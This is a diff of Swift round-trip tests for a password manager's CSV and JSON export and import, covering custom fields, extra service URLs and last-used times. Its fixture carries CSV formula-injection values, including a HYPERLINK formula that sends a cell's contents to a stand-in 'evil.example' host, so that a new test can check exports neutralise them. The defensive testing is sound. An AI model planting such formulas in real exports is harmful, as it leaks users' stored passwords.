@@ -23,16 +23,21 @@ struct RoundTripTests {
         let clock = Clock { Timestamp(millisecondsSince1970: now.withLock { $0 }) }
         let vault = try Vault.create(at: try directory.freshPath("source.pwtui"), password: try secure("x"),
                                      parameters: .interactive, environment: VaultEnvironment(clock: clock, derivation: MemoizingDerivation()))
-        let github = try vault.add(services: [try ServiceIdentifier("https://github.com/login"), try ServiceIdentifier("gist.github.com")],
+        let github = try vault.add(services: [try ServiceIdentifier("https://github.com/login"), try ServiceIdentifier("gist.github.com"),
+                                              try ServiceIdentifier("android://aGFzaA==@com.github.android/")],
                                    username: "alice", secret: try secure("first, \"quoted\"\npassword"), title: "GitHub — \"work\", main",
-                                   notes: "line 1\r\nline 2, with \"quotes\"\n日本語 🔑")
+                                   notes: "line 1\nline 2, with \"quotes\"\n日本語 🔑")
         try vault.setOneTimeKey(of: github.id, to: OneTimeParameters(algorithm: .sha512, digits: 8, period: 45), key: try secure(Self.totpKey))
+        try vault.setField(of: github.id, name: "recovery email", text: "alice@example.org", secret: try secure(""))
+        try vault.setField(of: github.id, name: "PIN", text: nil, secret: try secure("12,\"34"))
         now.withLock { $0 += 60_000 }
         try vault.replaceSecret(of: github.id, with: try secure("second"))
         now.withLock { $0 += 60_000 }
         try vault.replaceSecret(of: github.id, with: try secure("third ✓"))
         try vault.add(services: [try ServiceIdentifier("192.168.1.1:8080")], username: "", secret: try secure(""), title: "")
-        try vault.add(services: [try ServiceIdentifier("*.example.co.uk")], username: "ünïcode", secret: try secure("p"), title: "Wildcard")
+        // Cells a spreadsheet would run as formulas: guarded in the CSV exports, read back as they were.
+        try vault.add(services: [try ServiceIdentifier("*.example.co.uk")], username: "@ünïcode", secret: try secure("=1+2"),
+                      title: "=HYPERLINK(\"https://evil.example/?\"&D2)", notes: "-2+3\n=4")
         return vault
     }
 
@@ -73,6 +78,10 @@ struct RoundTripTests {
         #expect(copy.modified == original.modified)
         #expect(copy.totp?.parameters == original.totp?.parameters)
         #expect(copy.totp.map { secret(plan, $0.key) } == original.totp.map { secret(source, $0.key) })
+        #expect(copy.fields.map(\.name) == original.fields.map(\.name))
+        #expect(copy.fields.map(\.isSecret) == original.fields.map(\.isSecret))
+        #expect(copy.fields.map(\.text) == original.fields.map(\.text))
+        #expect(copy.fields.map { $0.secret.map { secret(plan, $0) } } == original.fields.map { $0.secret.map { secret(source, $0) } })
         if history {
             #expect(copy.history.map(\.replaced) == original.history.map(\.replaced))
             #expect(copy.history.map { secret(plan, $0.secret) } == original.history.map { secret(source, $0.secret) })
@@ -107,16 +116,54 @@ struct RoundTripTests {
         let source = try sourceVault()
         let (plan, writer) = try roundTrip(.keepassxcCSV, source)
         #expect(writer.notesServices == 1)
+        #expect(writer.notesFields == 1)
         for original in source.contents.credentials {
             let copy = try matching(original, in: plan)
             if original.services.count == 1 {
                 compare(original, in: source, with: copy, in: plan, history: false)
             } else {
                 #expect(copy.services == [original.services[0]])
-                #expect(copy.notes == original.notes + "\n\nURL: gist.github.com")
+                // No column for fields or a second service: the notes carry them.
+                #expect(copy.notes == original.notes + "\n\nrecovery email: alice@example.org\n\nURL: gist.github.com\nURL: android://aGFzaA==@com.github.android/\n\nPIN: 12,\"34")
+                #expect(copy.fields.isEmpty)
                 #expect(secret(plan, copy.secret) == secret(source, original.secret))
             }
         }
+    }
+
+    @Test("CSV exports guard text cells beginning with = + - @ TAB or CR; passwords are written as they are", arguments: [ExportFormat.csv, .keepassxcCSV])
+    func formulaGuard(_ format: ExportFormat) throws {
+        let source = try sourceVault()
+        var writer = ExportWriter(format: format)
+        let text = try writer.write(source).withUnsafeBytes { String(decoding: $0, as: UTF8.self) }
+        #expect(text.contains("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&D2)\""))
+        #expect(text.contains("\"'-2+3\n=4\""))
+        #expect(text.contains("\"'@ünïcode\""))
+        #expect(text.contains("\"=1+2\""), "the password cell is the password")
+        #expect(!text.contains("\"=HYPERLINK"))
+    }
+
+    @Test("pwtui CSV carries when each credential was last used, so that it ranks as before once imported")
+    func lastUsed() throws {
+        let source = try sourceVault()
+        let used = Timestamp(millisecondsSince1970: 1_750_000_000_000)
+        let first = try #require(source.contents.credentials.first)
+        var writer = ExportWriter(format: .csv)
+        writer.lastUsed = { $0 == first.id ? used : nil }
+        let bytes = try writer.write(source)
+        let plan = try bytes.withUnsafeBytes { try ImportSamples.plan(try ImportReader.read(bytes: $0)) }
+        let copied = try #require(plan.additions.first { $0.credential.username == first.username && $0.credential.title == first.title })
+        #expect(copied.lastUsed == used)
+        #expect(plan.additions.filter { $0.lastUsed != nil }.count == 1)
+    }
+
+    @Test("an export's CRLF in notes comes in as LF")
+    func crlfNotes() throws {
+        let vault = try Vault.create(at: try directory.freshPath("crlf.pwtui"), password: try secure("x"), parameters: .interactive,
+                                     environment: VaultEnvironment(derivation: MemoizingDerivation()))
+        try vault.add(services: [try ServiceIdentifier("example.org")], username: "u", secret: try secure("p"), notes: "a\r\nb\rc")
+        let (plan, _) = try roundTrip(.bitwardenJSON, vault)
+        #expect(plan.additions.first?.credential.notes == "a\nb\nc")
     }
 
     @Test("importing the same export twice changes nothing the second time")
